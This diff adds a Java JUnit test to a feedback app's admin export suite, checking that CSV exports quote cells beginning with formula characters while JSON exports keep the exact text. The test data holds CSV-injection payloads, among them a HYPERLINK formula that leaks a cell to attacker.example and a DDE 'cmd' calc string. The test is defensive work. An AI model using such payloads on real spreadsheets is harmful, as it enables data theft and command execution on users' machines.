@@ -4,6 +4,7 @@ import java.io.StringReader;
 import java.time.LocalDate;
 import java.time.ZoneOffset;
 import java.util.List;
+import java.util.UUID;
 
 import dev.feedbackchat.ChatWebTest;
 import dev.feedbackchat.admin.Seeder.Seed;
@@ -14,6 +15,9 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
 
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.jdbc.core.JdbcTemplate;
@@ -87,6 +91,33 @@ class AdminExportTests {
 			.containsExactly("{\"prompt\":\"down\",\"completion\":\"You said, \\\"down\\\" ...interesting.\",\"label\":false}",
 					"{\"prompt\":\"up\",\"completion\":\"You said, \\\"up\\\" ...interesting.\",\"label\":true}");
 		assertThat(download("/admin/export-kto.jsonl?rating=neutral").getResponse().getContentAsString()).isEmpty();
+	}
+
+	/** OWASP's "CSV Injection": a spreadsheet runs a cell that starts with one of these as a formula. */
+	@ParameterizedTest
+	@ValueSource(strings = { "=", "+", "-", "@", "\t", "\r" })
+	void csvCellsThatWouldBeFormulasStartWithAQuoteWhileJsonKeepsTheExactText(String start) throws Exception {
+		String prompt = start + "HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"Click\")";
+		String answer = start + "1+1";
+		String comment = start + "cmd|' /C calc'!A0";
+		Seeder seeder = new Seeder(jdbc);
+		seeder.clear();
+		seeder.insert(new Seed(UUID.randomUUID(), prompt, answer, THUMBS, 0, comment,
+				AdminDashboardTests.at(AdminDashboardTests.D, 9, 0, 0)));
+
+		String csv = download("/admin/export.csv").getResponse().getContentAsString();
+		CSVRecord record = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords().get(0);
+		assertThat(List.of(record.get("prompt"), record.get("answer"), record.get("comment")))
+			.containsExactly("'" + prompt, "'" + answer, "'" + comment);
+		assertThat(record.get("rating_label")).isEqualTo("Thumbs down");
+
+		JsonMapper json = JsonMapper.builder().build();
+		JsonNode line = json.readTree(download("/admin/export.jsonl").getResponse().getContentAsString().strip());
+		assertThat(List.of(line.get("prompt").asString(), line.get("answer").asString(), line.get("comment").asString()))
+			.containsExactly(prompt, answer, comment);
+		JsonNode example = json.readTree(download("/admin/export-kto.jsonl").getResponse().getContentAsString().strip());
+		assertThat(List.of(example.get("prompt").asString(), example.get("completion").asString()))
+			.containsExactly(prompt, answer);
 	}
 
 	@ParameterizedTest
